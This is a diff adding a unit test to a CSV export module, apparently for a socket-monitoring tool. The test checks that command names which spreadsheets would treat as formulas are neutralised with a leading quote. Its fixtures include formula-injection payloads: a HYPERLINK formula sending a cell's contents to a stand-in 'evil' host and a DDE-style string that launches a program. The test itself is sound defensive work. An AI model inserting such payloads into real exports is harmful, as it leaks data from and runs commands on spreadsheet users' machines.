@@ -56,6 +56,23 @@ test('a row reads back with every value, whatever its command name holds', () =>
   assert.equal(rec.state, 'TIME-WAIT');
 });
 
+test('a command name a spreadsheet would run as a formula is written as text; numbers stay numbers', () => {
+  const hostile = ['=HYPERLINK("http://evil/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tnew', '\r=1+1'];
+  for (const command of hostile) {
+    const [, values] = parseCsv(csvHeader() + csvLine(row(1, { command })));
+    const cell = values[CSV_COLUMNS.indexOf('command')];
+    assert.equal(cell, `'${command}`, `${JSON.stringify(command)} is neutralised`);
+    assert.equal(values[CSV_COLUMNS.indexOf('localPort')], '5000');
+  }
+  // Inside the text a formula character is harmless (a spreadsheet only looks at the first one).
+  assert.equal(csvField('a=b'), 'a=b');
+  assert.equal(csvField('=1'), "'=1");
+  assert.equal(csvField('=a,b'), '"\'=a,b"');
+  // Numbers are written raw, even a negative one (the log has none, but it is a number, not a formula).
+  assert.equal(csvField(-3), '-3');
+  assert.equal(csvField(0), '0');
+});
+
 test('export streams every page into the file (no whole table in memory) and stops when cancelled', async () => {
   const dir = mkdtempSync(join(tmpdir(), 'sockscope-csv-'));
   try {
